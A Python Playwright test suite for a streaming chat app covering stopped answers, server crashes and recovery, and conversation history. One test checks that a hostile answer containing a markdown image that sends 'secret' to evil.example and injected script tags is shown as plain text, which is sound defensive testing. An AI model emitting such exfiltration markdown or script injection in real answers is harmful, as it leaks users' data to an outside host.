"""Answers that take their time, as a chat model's do: stopping, failing, and words that a model makes up."""

from __future__ import annotations

import signal
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from subprocess import Popen
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from .conftest import PATIENCE, agree

if TYPE_CHECKING:
    from conftest import Visitor
    from playwright.sync_api import Browser, Page

    Open = Callable[..., Visitor]
    Start = Callable[..., AbstractContextManager[tuple[str, Popen[str]]]]

QUESTION = "What does a senior AI engineer earn?"
OTHER = "Which soft skills matter?"
_HOLD, _GO_ON = signal.SIGUSR2, signal.SIGUSR1


@pytest.fixture(scope="module")
def slow(start_slow: Start) -> Iterator[tuple[str, Popen[str]]]:
    with start_slow() as running:
        yield running


@pytest.fixture
def slow_url(slow: tuple[str, Popen[str]]) -> str:
    return slow[0]


@pytest.fixture
def server(slow: tuple[str, Popen[str]]) -> Iterator[Popen[str]]:
    _, process = slow
    yield process
    process.send_signal(_GO_ON)


def begin(page: Page, server: Popen[str]) -> None:
    """Ask, and see the first words of an answer that stays half written until the server may go on."""
    server.send_signal(_HOLD)
    page.get_by_label("Your question").fill(QUESTION)
    page.keyboard.press("Enter")
    expect(page.locator("#chat .bot-row").last).to_contain_text("Salaries")


def test_stop_freezes_the_answer_and_says_so(open_page: Open, slow_url: str, server: Popen[str]) -> None:
    visitor = open_page(slow_url)
    begin(visitor.page, server)
    bubble = visitor.answered(visitor.page.get_by_role("button", name="Stop").click)
    expect(bubble.locator(".notice.error")).to_contain_text("Stopped.")
    before = bubble.inner_text()
    server.send_signal(_GO_ON)
    visitor.page.wait_for_timeout(700)  # long enough for a dozen more pieces
    assert bubble.inner_text() == before
    expect(bubble.locator("a")).to_have_count(0)
    expect(visitor.page.get_by_role("button", name="Send")).to_be_visible()


def test_after_a_stop_the_conversation_goes_on(open_page: Open, slow_url: str, server: Popen[str]) -> None:
    visitor = open_page(slow_url)
    begin(visitor.page, server)
    visitor.answered(visitor.page.get_by_role("button", name="Stop").click)
    server.send_signal(_GO_ON)
    expect(visitor.ask("and Tesla?").locator(".notice").first).to_have_text("Answered from the documents")


def test_a_marker_clicked_too_early_opens_once_the_answer_is_complete(
    open_page: Open, slow_url: str, server: Popen[str]
) -> None:
    visitor = open_page(slow_url)
    begin(visitor.page, server)
    visitor.page.locator("#chat a[href$='-1']").first.click()
    expect(visitor.page.locator("#said [role=status]")).to_contain_text("as soon as the answer is complete")
    server.send_signal(_GO_ON)
    expect(visitor.page.locator("#source")).to_be_visible()


def test_a_failure_is_an_error_and_the_next_question_is_answered(open_page: Open, slow_url: str) -> None:
    visitor = open_page(slow_url)
    bubble = visitor.ask("What does a senior AI engineer earn, or does it fail?")
    expect(bubble.locator(".notice.error")).to_contain_text("Something went wrong")
    assert "gone" not in bubble.inner_text()
    expect(visitor.ask(QUESTION).locator(".notice").first).to_have_text("Answered from the documents")


def test_links_images_and_scripts_in_an_answer_stay_words(open_page: Open, slow_url: str) -> None:
    visitor = open_page(slow_url)
    bubble = visitor.ask("a hostile one")
    expect(bubble).to_contain_text("![x](https://evil.example/?d=secret) [here](https://evil.example)")
    expect(bubble).to_contain_text("<script>window.hacked = 1</script> <script>window.hacked = 2</script>")
    expect(bubble).to_contain_text("[ref][9] from ~5 to ~10, $$x$$, a*b")
    expect(bubble.locator("a, img, script, del")).to_have_count(0)
    assert visitor.page.evaluate("window.hacked === undefined")


def port(url: str) -> int:
    return int(url.rsplit(":", 1)[1].strip("/"))


@pytest.fixture(scope="module")
def died(browser: Browser, start_slow: Start) -> tuple[str, list[Page]]:
    """The address of a server that died over the second answer of some pages, and these: one for each test.

    While `window.held` is true, Gradio does not load a page anew: it hears nothing of a server that is back.
    """
    # not through open_page: these pages are right to report that their server is gone
    pages = [browser.new_page() for _ in range(6)]
    with start_slow() as (url, process):
        for page in pages:
            page.set_default_timeout(PATIENCE)
            page.add_init_script(
                "const every = setInterval; "
                "window.setInterval = (act, wait) => every(() => window.held || act(), wait);"
            )
            page.goto(url)
            page.get_by_label("Your question").fill("Do I need a PhD?")
            page.keyboard.press("Enter")
            expect(page.locator("#chat .notice.answered")).to_have_count(1)
            expect(page.locator("#chat button.option").first).to_be_visible()
        for page in pages:
            begin(page, process)
        process.send_signal(signal.SIGKILL)
        process.wait()
    for page in pages:
        expect(page.get_by_role("alert").filter(has_text="The connection to the server is lost")).to_be_visible()
    return url, pages


@pytest.fixture(scope="module")
def back(died: tuple[str, list[Page]], start_slow: Start) -> Iterator[None]:
    """The server is there again; the pages that no test has taken yet are held."""
    url, pages = died
    for page in pages:
        page.evaluate("window.held = true")
    with start_slow(port=port(url)):
        yield


@pytest.fixture
def abandoned(died: tuple[str, list[Page]]) -> Iterator[Page]:
    """One of these pages."""
    page = died[1].pop()
    yield page
    page.context.close()


# the first of these tests: it needs the server away
@pytest.mark.parametrize("early", [True, False], ids=["asked again while it is away", "asked again once it is back"])
def test_a_server_that_dies_over_an_answer_is_told_and_the_question_asked_again(
    abandoned: Page, request: pytest.FixtureRequest, early: bool
) -> None:
    page = abandoned
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    again = page.locator("#unanswered").get_by_role("button")
    if early:
        again.click()
        expect(again).to_have_text("Waiting for the server …")
    request.getfixturevalue("back")
    if not early:
        page.evaluate("window.held = false")
        expect(page.locator("#unanswered")).to_contain_text(f"before this was answered: {QUESTION}")
        again.click()
    expect(page.locator("#chat .notice.answered")).to_have_count(2)
    expect(page.locator("#chat [data-testid=user]")).to_have_text(["Do I need a PhD?", QUESTION])
    expect(page.locator("#unanswered")).to_have_count(0)
    expect(page.get_by_label("Your question")).to_have_value("")


@pytest.fixture
def lost(back: None, abandoned: Page) -> Page:
    """A page that is held, whose server is back."""
    return abandoned


@pytest.mark.parametrize("how", ["by Enter", "by the button", "once the page is loaded anew"])
def test_a_question_sent_to_a_server_that_is_back_is_answered(lost: Page, how: str) -> None:
    if how == "once the page is loaded anew":
        lost.evaluate("window.held = false")
        lost.wait_for_function("() => window.held === undefined")
    lost.get_by_label("Your question").fill(OTHER)
    if how == "by the button":
        lost.get_by_role("button", name="Send").click()
    else:
        lost.keyboard.press("Enter")
    lost.evaluate("window.held = false")
    expect(lost.locator("#chat .notice.answered")).to_have_count(2)
    expect(lost.locator("#chat [data-testid=user]").last).to_have_text(OTHER)
    expect(lost.locator("#unanswered")).to_have_count(0)
    expect(lost.get_by_label("Your question")).to_have_value("")


def test_a_question_changed_before_the_server_heard_it_is_not_asked(lost: Page) -> None:
    lost.get_by_label("Your question").fill(OTHER)
    lost.keyboard.press("Enter")
    lost.get_by_label("Your question").fill("Which soft")
    lost.evaluate("window.held = false")
    lost.wait_for_function("() => window.held === undefined")
    expect(lost.locator("#unanswered")).to_contain_text(f"before this was answered: {QUESTION}")
    expect(lost.get_by_label("Your question")).to_have_value("Which soft")
    expect(lost.locator("#chat [data-testid=user]")).to_have_text(["Do I need a PhD?"])


def test_an_opened_conversation_is_not_written_over_by_the_answer_of_another(
    open_page: Open, slow_url: str, server: Popen[str]
) -> None:
    visitor = open_page(slow_url)
    page = visitor.page
    visitor.ask("Do I need a PhD?")
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator("#chat [data-testid=user]")).to_have_count(0)
    begin(page, server)
    page.get_by_role("button", name="Conversations", exact=True).click()
    page.locator("#history li").get_by_role("button", name="Do I need a PhD?", exact=True).click()
    expect(page.locator("#chat [data-testid=user]")).to_have_text(["Do I need a PhD?"])
    server.send_signal(_GO_ON)
    page.wait_for_timeout(2_000)  # longer than what is left of the other answer would have taken
    expect(page.locator("#chat [data-testid=user]")).to_have_text(["Do I need a PhD?"])
    page.get_by_role("button", name="Conversations", exact=True).click()
    page.locator("#history li").get_by_role("button", name=QUESTION, exact=True).click()
    expect(page.locator("#chat")).to_contain_text("Stopped.")
    expect(page.locator("#chat [data-testid=user]")).to_have_text([QUESTION])


def test_a_conversation_deleted_while_its_answer_is_written_stays_deleted(
    open_page: Open, slow_url: str, server: Popen[str]
) -> None:
    visitor = open_page(slow_url)
    page = visitor.page
    visitor.ask("Do I need a PhD?")
    begin(page, server)
    page.get_by_role("button", name="Conversations", exact=True).click()
    page.get_by_role("button", name="Delete: Do I need a PhD?").click()
    agree(page, "Delete")
    expect(page.locator("#history")).to_contain_text("No conversation is kept yet.")
    server.send_signal(_GO_ON)
    page.wait_for_timeout(2_000)
    expect(page.locator("#history")).to_contain_text("No conversation is kept yet.")
    expect(page.locator("#chat [data-testid=user]")).to_have_count(0)
